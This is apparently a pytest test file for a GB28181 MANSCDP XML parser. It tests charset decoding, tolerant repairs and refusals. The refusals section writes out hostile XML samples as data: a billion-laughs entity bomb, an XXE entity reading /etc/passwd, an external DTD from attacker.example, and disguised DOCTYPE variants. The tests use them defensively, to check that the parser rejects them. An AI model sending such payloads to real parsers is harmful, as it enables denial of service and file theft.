"""What the MANSCDP parser tolerates (charsets, bare &, stray spaces, unquoted attributes,
wrong declarations, NULs) and what it refuses (DTDs, oversized, truncated, unusable)."""

from __future__ import annotations

import pytest

from sitewatch.protocols.gb28181.manscdp import (
    DEFAULT_MAX_SIZE,
    Keepalive,
    ManscdpError,
    ManscdpReason,
    Unknown,
    declared_encoding,
    decode_body,
    decode_body_detail,
    normalise_status,
    parse_manscdp,
    xmltree,
)

from .manscdp_support import fixture


def keepalive(inner: str, declaration: str = '<?xml version="1.0" encoding="GB2312"?>\r\n') -> bytes:
    return (declaration + "<Notify>" + inner + "</Notify>").encode("gb18030")


def device_info_named(name_xml: str, encoding: str = "GB2312", codec: str = "gb18030") -> bytes:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\r\n<Response><CmdType>DeviceInfo</CmdType><SN>5</SN>'
        f"<DeviceID>44080200441180000001</DeviceID><DeviceName>{name_xml}</DeviceName></Response>"
    ).encode(codec)


@pytest.fixture
def strict_only(monkeypatch):
    """The repair under test must make the body well-formed for expat: the forgiving
    builder would otherwise hide a broken repair."""
    monkeypatch.setattr(xmltree, "_lenient", lambda text: pytest.fail("needed the forgiving builder"))


def reason_of(body: bytes, **kwargs) -> ManscdpReason:
    with pytest.raises(ManscdpError) as caught:
        parse_manscdp(body, **kwargs)
    return caught.value.reason


# --- charsets ----------------------------------------------------------------------


@pytest.mark.parametrize("declared", ["GB2312", "gb2312", "GBK", "gb18030", "GB18030"])
def test_gb_family_declarations_decode_as_gb18030(declared):
    body = device_info_named("工地东门", encoding=declared)
    assert parse_manscdp(body).device_name == "工地东门"


def test_no_declaration_decodes_as_gb18030():
    body = "<Response><CmdType>DeviceInfo</CmdType><SN>5</SN><DeviceID>1</DeviceID><DeviceName>塔吊</DeviceName></Response>"
    assert parse_manscdp(body.encode("gb18030")).device_name == "塔吊"


def test_rare_character_beyond_gb2312_survives_a_gb2312_declaration():
    # 萳 is not in GB2312 (wvp #1344); devices send it anyway, as GBK/GB18030 bytes.
    assert parse_manscdp(device_info_named("萳山工地")).device_name == "萳山工地"


@pytest.mark.parametrize("declared", ["UTF-8", "utf-8", "utf8"])
def test_utf8_declaration_decodes_as_utf8(declared):
    body = device_info_named("工地东门", encoding=declared, codec="utf-8")
    assert parse_manscdp(body).device_name == "工地东门"


def test_utf8_declared_but_gb_bytes_retries_gb18030():
    body = device_info_named("工地东门", encoding="UTF-8", codec="gb18030")
    detail = decode_body_detail(body)
    assert (detail.declared, detail.charset, detail.lossy) == ("utf-8", "gb18030", False)
    assert parse_manscdp(body).device_name == "工地东门"


def test_unquoted_and_single_quoted_declarations_are_read():
    assert declared_encoding(b"<?xml version='1.0' encoding='GBK'?><a/>") == "gbk"
    assert declared_encoding(b'<? xml version="1.0" encoding=UTF-8 ?><a/>') == "utf-8"
    assert declared_encoding(b"<a/>") is None


def test_utf8_bom_wins_over_a_gb2312_declaration():
    body = b"\xef\xbb\xbf" + device_info_named("东门", codec="utf-8")
    assert parse_manscdp(body).device_name == "东门"


def test_undecodable_bytes_are_replaced_and_flagged_never_raised():
    body = device_info_named("东门", codec="gb18030").replace("东".encode("gb18030"), b"\xff\xff")
    detail = decode_body_detail(body)
    assert detail.lossy and "\ufffd" in detail.text
    assert parse_manscdp(body).device_name.endswith("门")


def test_decode_body_returns_the_text():
    assert decode_body("<a>东</a>".encode("gb18030")) == "<a>东</a>"


# --- repairs -----------------------------------------------------------------------


def test_bare_ampersand_is_kept_as_text(strict_only):
    # Escaped before expat sees it (wvp drops such ampersands for Hikvision; we keep them).
    assert parse_manscdp(device_info_named("A&B 东门 & 西门")).device_name == "A&B 东门 & 西门"


def test_real_entities_are_still_decoded():
    assert parse_manscdp(device_info_named("A&amp;B &#x4E1C;&#38376; &lt;1&gt;")).device_name == "A&B 东门 <1>"


def test_undefined_entity_stays_literal_text():
    # Without a DTD there is nothing to expand: "&xxe;" is a bare & plus text.
    assert parse_manscdp(device_info_named("&xxe;")).device_name == "&xxe;"


def test_stray_spaces_in_tags_and_values_are_trimmed(strict_only):
    body = keepalive("<CmdType> Keepalive </CmdType>< SN > 12 </ SN ><DeviceID>34020000001320000001</ DeviceID >"
                     "<Status > OK </Status>")
    assert parse_manscdp(body) == Keepalive("34020000001320000001", 12, "OK")


def test_unquoted_attribute_is_read(strict_only):
    body = (b"<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID><SumNum>1</SumNum>"
            b"<DeviceList Num=1><Item><DeviceID>2</DeviceID></Item></DeviceList></Response>")
    message = parse_manscdp(body)
    assert (message.list_num, [i.device_id for i in message.items]) == (1, ["2"])


@pytest.mark.parametrize(
    "declaration",
    [
        "",
        '<?xml version="1.0"?>',
        '<? xmlversion="1.0"?>\n',  # the OCR'd standard
        '\r\n\r\n<?xml version="1.0" encoding="GB2312"?>',  # not at the very start: expat refuses it
        '<?xml version="1.0" encoding="GB2312"?><?xml version="1.0"?>',
        "<!-- 心跳 --><! -- 标准附录写法 -->",
    ],
)
def test_wrong_missing_or_misplaced_declarations_are_tolerated(declaration, strict_only):
    body = keepalive("<CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>7</DeviceID>", declaration=declaration)
    assert parse_manscdp(body) == Keepalive("7", 1)


def test_trailing_nuls_and_whitespace_are_ignored(strict_only):
    body = fixture("srs_ipc_keepalive_utf8.xml")
    assert parse_manscdp(body + b"\x00\x00\x00\r\n \t\n") == parse_manscdp(body)


def test_nul_inside_the_body_is_dropped():
    body = fixture("wvp1320_catalog_stray_end_tag.xml")
    dirty = body.replace(b"<SumNum>", b"\x00<SumNum>") + b"\x00"
    assert parse_manscdp(dirty) == parse_manscdp(body)


def test_element_names_are_case_insensitive():
    body = b"<notify><cmdtype>keepalive</cmdtype><sn>3</sn><deviceid>9</deviceid><status>OK</status></notify>"
    assert parse_manscdp(body) == Keepalive("9", 3, "OK")


def test_namespaced_body_is_read():
    body = (b'<Notify xmlns="urn:x"><CmdType>Keepalive</CmdType><SN>3</SN><DeviceID>9</DeviceID>'
            b"<Status>OK</Status></Notify>")
    assert parse_manscdp(body) == Keepalive("9", 3, "OK")


def test_non_numeric_sn_is_none_not_an_error():
    body = keepalive("<CmdType>Keepalive</CmdType><SN>abc</SN><DeviceID>7</DeviceID>")
    assert parse_manscdp(body).sn is None


def test_items_without_a_device_list_are_still_read():
    body = (b"<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID><SumNum>1</SumNum>"
            b"<Item><DeviceID>2</DeviceID><Status>ON</Status></Item></Response>")
    message = parse_manscdp(body)
    assert [(i.device_id, i.status) for i in message.items] == [("2", "ON")]


def test_item_level_ptz_type_and_resolution_are_read_like_info_ones():
    body = (b"<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID><SumNum>1</SumNum><DeviceList>"
            b"<Item><DeviceID>2</DeviceID><PTZType>3</PTZType><Resolution>1920*1080</Resolution></Item>"
            b"</DeviceList></Response>")
    item = parse_manscdp(body).items[0]
    assert (item.ptz_type, [str(r) for r in item.resolution]) == (3, ["1920x1080"])


def test_control_and_unmodelled_commands_are_unknown_messages():
    control = b"<Control><CmdType>DeviceControl</CmdType><SN>4</SN><DeviceID>9</DeviceID></Control>"
    record = b"<Response><CmdType>RecordInfo</CmdType><SN>5</SN><DeviceID>9</DeviceID></Response>"
    assert parse_manscdp(control) == Unknown("Control", "DeviceControl", "9", 4)
    assert parse_manscdp(record) == Unknown("Response", "RecordInfo", "9", 5)


def test_strict_parser_handles_well_formed_bodies_and_the_forgiving_one_the_rest(monkeypatch):
    # If the forgiving builder were used for everything, a regression in expat handling
    # would go unnoticed: a well-formed fixture must not need it.
    calls = []
    original = xmltree._lenient
    monkeypatch.setattr(xmltree, "_lenient", lambda text: calls.append(text) or original(text))
    parse_manscdp(fixture("srs_nvr_catalog_response_gb2312.xml"))
    assert calls == []
    parse_manscdp(fixture("kandaoni_standard_m11_catalog.xml"))
    assert len(calls) == 1


# --- refusals ----------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><Notify><CmdType>Keepalive</CmdType><SN>1</SN>'
    "<DeviceID>&lol3;</DeviceID></Notify>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE Notify [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>"
)

EXTERNAL_DTD = (
    '<!DOCTYPE Notify SYSTEM "http://attacker.example/x.dtd">'
    "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>"
)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_DTD,
        EXTERNAL_ENTITY,
        "<!doctype Notify><Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>",
        "<! DOCTYPE Notify><Notify/>",
        '<Notify><!ENTITY x "y"><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>',
        # Repairs must not assemble a declaration out of pieces: a NUL or a comment removed.
        EXTERNAL_DTD.replace("<!DOCTYPE", "<!\x00DOCTYPE"),
        EXTERNAL_DTD.replace("<!DOCTYPE", "<!<!-- -->DOCTYPE"),
        EXTERNAL_DTD.replace("<!DOCTYPE", "<!<??>DOCTYPE"),
    ],
)
def test_dtd_and_entity_declarations_are_refused(body):
    assert reason_of(body.encode()) is ManscdpReason.DOCTYPE_REFUSED


def test_body_over_the_cap_is_refused_before_parsing():
    body = fixture("srs_ipc_keepalive_utf8.xml")
    assert reason_of(body + b" " * DEFAULT_MAX_SIZE) is ManscdpReason.TOO_LARGE
    assert reason_of(body, max_size=len(body) - 1) is ManscdpReason.TOO_LARGE
    assert isinstance(parse_manscdp(body, max_size=len(body)), Keepalive)


def test_truncated_catalog_is_bad_xml_not_a_short_catalog():
    body = fixture("srs_nvr_catalog_response_gb2312.xml")
    cut = body[: body.index(b"</Item>") + len(b"</Item>")]
    assert reason_of(cut) is ManscdpReason.BAD_XML


@pytest.mark.parametrize("body", [b"", b"\x00\x00\r\n", b"hello", b"<<<>>>", b"<Notify>", b"<?xml version='1.0'?>"])
def test_empty_or_garbage_is_bad_xml(body):
    assert reason_of(body) is ManscdpReason.BAD_XML


def test_unknown_root_is_refused():
    assert reason_of(b"<Foo><CmdType>Keepalive</CmdType><DeviceID>1</DeviceID></Foo>") is ManscdpReason.UNKNOWN_ROOT


@pytest.mark.parametrize(
    "inner",
    [
        "<SN>1</SN><DeviceID>7</DeviceID>",
        "<CmdType>Keepalive</CmdType><SN>1</SN>",
        "<CmdType> </CmdType><SN>1</SN><DeviceID>7</DeviceID>",
        "<CmdType>Keepalive</CmdType><SN>1</SN><DeviceID></DeviceID>",
    ],
)
def test_missing_cmd_type_or_device_id_is_refused(inner):
    assert reason_of(keepalive(inner)) is ManscdpReason.MISSING_FIELD


def test_error_carries_reason_detail_and_the_head_of_the_body():
    body = b"<Foo/>" + b" " * 2000
    with pytest.raises(ManscdpError) as caught:
        parse_manscdp(body)
    error = caught.value
    assert (error.reason, error.size, error.raw[:6], len(error.raw)) == ("unknown_root", 2006, b"<Foo/>", 512)


# --- status ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "status"),
    [("ON", "ON"), ("on", "ON"), (" Online ", "ON"), ("OK", "ON"), ("OFF", "OFF"), ("offline", "OFF"),
     ("ERROR", None), ("Status1", None), ("", None), (None, None)],
)
def test_catalog_status_normalisation(raw, status):
    assert normalise_status(raw) == status


def test_keepalive_reporting_error_is_not_ok_but_one_without_status_is():
    error = parse_manscdp(keepalive("<CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>7</DeviceID><Status>ERROR</Status>"))
    silent = parse_manscdp(keepalive("<CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>7</DeviceID>"))
    assert (error.is_ok, silent.is_ok) == (False, True)

